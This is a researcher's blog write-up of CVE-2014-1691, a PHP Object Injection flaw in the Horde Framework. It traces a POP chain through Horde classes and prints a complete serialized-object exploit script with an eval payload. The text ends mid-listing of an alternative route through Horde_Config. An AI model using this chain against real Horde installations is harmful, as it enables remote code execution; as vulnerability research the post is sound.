Exploiting CVE-2014-1691: Horde Framework PHP Object Injection

Welcome to my third blog post ever, the first in this new year, but still talking about an old friend of mine. Yes, 2014 is here, however the topic is always the same: PHP Object Injection! Perhaps those few people who read my blog are wondering if I will ever write about something else, or whether this is going to be a monothematic blog… Well, who knows?! It could be, or maybe not, but the point is that right now I’m really in love with this kind of vulnerabilities, and today I would like to share with you what in my view is an interesting story about a PHP Object Injection vulnerability which affected the Horde Framework.

I’ve noticed this vulnerability in late May 2013, during my free time, while testing the Horde Framework version 5.1.0. During a first stage I have spotted only a couple of useful magic methods which could be leveraged to carry out some kind of attack. The first interesting thing I noticed was inthe Horde_Auth_Passwd::__destruct() method, which allows to rename arbitrary files through some of its properties. I thought that this could be exploited somehow even to achieve arbitrary code execution (e.g. renaming a log file into something.php) or to cause a Denial of Service condition by renaming an essential file like /config/conf.php, however the point is that the full path of the file to be renamed should be known, and this requirement increases the attack’s complexity, making the issue quite weak. Therefore, I have decided to dug a bit more before to contact the Horde Core Team, and when in early July I have found the attack vector that I’m going to explain in this blog post, (un)fortunately it was too late to contact them, because they had already fixed the issue on June 27, 2013.Seven months later, someone requested a new CVE identifier for this security issue, saying that he has discovered the bug while reviewing the Horde3 source code, and that the credits should go to the Horde Core Team, since they have discovered and fixed the bug in Horde5. While I totally agree with that, I’m not sure how this vulnerability can be exploited on Horde3, the only thing I’m sure of is that the following attack vector doesn’t work on Horde3, simply because the classes used in this attack are different or not even present in the Horde3 codebase. As I said, I was testing version 5.1.0, and version 5.1.1 should be affected as well, since it has been released on June 18, 2013. Let’s stop talking about the story, and let’s go into the exploitation details!

• Building the POP Chain

As I was saying, initially I didn’t notice so many interesting magic methods within the Horde Core. However I have noticed a potential candidate class to start a so called“POP chain”, in other words, a chain of objects connected to each other through their properties, whose purpose is to transfer the execution flow into an “interesting” method. Within the Horde5 Core, an interesting class that can be used to start a “POP chain” is Horde_Kolab_Server_Decorator_Clean, because of its destructor method:

255    public function cleanup()
256    {
257        foreach ($this->_added as $guid) {
258            $this->delete($guid);
259        }
260    }262    /**
263     * Destructor.
264     */
265    public function __destruct()
266    {
267        $this->cleanup();
268    }

This destructor calls the Horde_Kolab_Server_Decorator_Clean::cleanup() method, which at line 257 executes a “foreach” using the _added property as array, that means the first requirement is that this property should be an array with at least one element, and that’s because we want to transfer the execution flow into the Horde_Kolab_Server_Decorator_Clean::delete() method:

203    public function delete($guid)
204    {
205        $this->_server->delete($guid);
206        if (in_array($guid, $this->_added)) {
207            $this->_added = array_diff($this->_added, array($guid));
208        }
209    }

This method, at line 205, calls the delete() method of the object stored into the _server property, which is supposed to be an Horde_Kolab_Server object. However, while buildinga “POP chain”, an attacker can set the _server property to an arbitrary object. In this case, an interesting class would be Horde_Prefs_Identity, because of its delete() method:

173   public function delete($identity)
174    {175        $deleted = array_splice($this->_identities, $identity, 1);
176        foreach (array_keys($this->_identities) as $id) {
177            if ($this->setDefault($id)) {
178                break;
179            }
180        }
181        $this->save();
183        return $deleted;
184    }This time there’s no need to care about the _identities property, because there’s nothing interesting within the setDefault() method. So, let’s just ignore lines 175-180, and jump to line 181, where is called the Horde_Prefs_Identity::save()method:

125    /**
126     * Saves all identities in the prefs backend.
127     */
128    public function save()
129    {
130        $this->_prefs->setValue($this->_prefnames['identities'], serialize($this->_identities));
131        $this->_prefs->setValue($this->_prefnames['default_identity'], $this->_default);
132    }

As the comment suggests, this method “saves all identities in the prefs backend”. Indeed, is called the setValue() method of the object stored into the _prefs property, which is supposed to be an Horde_Prefs object. Well, this time we are going to use exactly that kind of object, and that’s because of the Horde_Prefs::setValue() method:

190    public function setValue($pref, $val, array $opts = array())
191    {
192        /* Exit early if preference doesn't exist or is locked. */
193        if (!($scope = $this->_getScope($pref)) ||
194            $this->_scopes[$scope]->isLocked($pref)) {
195            return false;
196        }
198        // Check to see if the value exceeds the allowable storage limit.
199        if ($this->_opts['sizecallback'] &&
200            call_user_func($this->_opts['sizecallback'], $pref, strlen($val))) {
201            return false;
202        }

This might be the end of the “POP chain”, because we have finally reached the “interesting” method we were looking for. The reason is that at line 200 is called the call_user_func() PHP function, which calls the “callback” given by the first parameter and passes the remaining parameters as arguments. Since an attacker can control the first two parameters that are being passed to call_user_func() through certain object’s properties, this means that she might be able to execute arbitrary PHP code.

• Are we done? Hmm… not so fast!

First of all, in order to reach line 200, at least one of the two conditions of the if statement at line 193 must be true, otherwise the Horde_Prefs::setValue() method will return false without reachingthe if statement at line 199. As the comment at line 192 suggests, the method will return false if the preference doesn’t exist or is locked. This “preference” is given by the $pref parameter that is being passed to theHorde_Prefs::setValue() method from within the Horde_Prefs_Identity::save() method. This means that while for the application it represents just “the preference name to modify”, for the attacker it represents the PHP payload that is being passed to call_user_func() through the _prefnames['identities'] property of the Horde_Prefs_Identity object of the “POP chain”. So, let’s have a look at the Horde_Prefs::_getScope() method:

329    protected function _getScope($pref)
330    {
331        if ($this->_scopes[$this->_scope]->exists($pref)) {
332            return $this->_scope;
333        } elseif (($this->_scope != self::DEFAULT_SCOPE) &&
334            ($this->_scopes[self::DEFAULT_SCOPE]->exists($pref))) {
335            return self::DEFAULT_SCOPE;
336        }
338        return null;
339    }

This method returns “the scope of the preference, or null if it doesn’t exist”. Actually, is called the exists() method of certain objects stored into the _scopes array, which is a property of the Horde_Prefs class that is supposed to be a “scope list” (an array whose keys are scope names, while values are Horde_Prefs_Scope objects). In other words, another requirement for the “POP chain” is that the _scopes property of the Horde_Prefs object should be set ad-hoc in order to point to a proper Horde_Prefs_Scope object, and that’s because of the Horde_Prefs_Scope::exists() method:

113    /**
114     * Does a preference exist in this scope?
115     *
116     * @return boolean  True if the preference exists.117     */
118    public function exists($pref)
119    {
120        return isset($this->_prefs[$pref]);
121    }

The second question is: ok, we finally control a call_user_func() call, how this can be exploited to execute arbitraryPHP code? We can’t use eval() because it’s a language construct, hence not a valid “callback”. However, there’s the assert() function which allows to do more or less the same. The point is that assert() will not work if the Horde Framework is running on PHP < 5.4.8, because before that version assert() accepts only one parameter, while in this case we can control a call_user_func() call which passes two parameters to the “callback” function. Nevertheless, the call_user_func() function allows to call also objects’ methods, and not only functions, meaning that we can call every method of every available class within the Horde Core. At this point, one of the easiest ways to achieve arbitrary PHP code execution would be to call the Horde_Date_Parser_Token::untag() method, which uses create_function() to dynamically create a function used to filter the array stored in its tags property:

21    /**
22     * Remove all tags of the given class
23     */
24    public function untag($tagClass)
25    {
26        $this->tags = array_filter($this->tags, create_function('$t', 'return substr($t[0], 0, ' . strlen($tagClass) . ') != "' . $tagClass . '";'));
27    }

Finally, we have reached the end of the “POP chain”, that should be an Horde_Date_Parser_Token object whose tags property is an array containing at least one string. It is very likely there could be another way, probably easier, to achieve arbitrary code execution, but I think thisway is quite interesting, especially considering the fact that it works just with classes of the Horde Core, which means that theoretically it should affect every application built with a vulnerable version of the Horde Framework. For this reason, I would recommend to the Horde Core Team a security code review focused on the removal of any potentially vulnerable unserialize() call within the Horde Core, as well as in every Horde application. So, this is the end, let’s make the “POP chain”…

• Putting It All Together

 1$phpcode = '"&&eval("phpinfo();die;")=="';
 3class Horde_Date_Parser_Token
 5   public $tags = array('A');
 8class Horde_Prefs_Scope
10   protected $_prefs;
12   function __construct()
13   {
14      $this->_prefs = array($GLOBALS['phpcode'] => 1);
15   }
18class Horde_Prefs
20   protected $_opts, $_scopes;
22   function __construct()
23   {
24      $this->_opts['sizecallback'] = array(new Horde_Date_Parser_Token, 'untag');
25      $this->_scopes['horde'] = new Horde_Prefs_Scope;
26   }
29classHorde_Prefs_Identity
31   protected $_prefs, $_prefnames;
33   function __construct()
34   {
35      $this->_prefs = new Horde_Prefs;
36      $this->_prefnames['identities'] = $GLOBALS['phpcode'];
37   }
40class Horde_Kolab_Server_Decorator_Clean
42   private $_server, $_added =array(1);
44   function __construct()
45   {
46      $this->_server = new Horde_Prefs_Identity;
47   }
50$popchain = serialize(new Horde_Kolab_Server_Decorator_Clean);

Update – March 19, 2014

It has recently been brought to my attention that this “POP chain” will not work with a default installation of the Horde Framework. The reason is that the Date_Parser library, in which is defined the Horde_Date_Parser_Token class, is not included in a vanilla installation of Horde. I chose that class just because it wasone of the first that I noticed with an “interesting” method, without verifying whether it’s included in a default installation. Well, like I said before, it should be possible to call every method of every available class defined within the Horde Core, and there is another way (only one?) to achieve arbitrary code execution, by calling the readXMLConfig() method of the Horde_Config class, which – as the name suggests – is included in a default installation:

167    public function readXMLConfig($custom_conf = null)
168    {
169        if (!is_null($this->_xmlConfigTree) && !$custom_conf) {
170            return $this->_xmlConfigTree;
171        }
173        $path = $GLOBALS['registry']->get('fileroot', $this->_app) . '/config';
175        if ($custom_conf) {
176            $this->_currentConfig = $custom_conf;
177        } else {
178            /* Fetch the current conf.php contents. */
179            @eval($this->getPHPConfig());
180            if (isset($conf)) {
181                $this->_currentConfig = $conf;
182            }
183        }

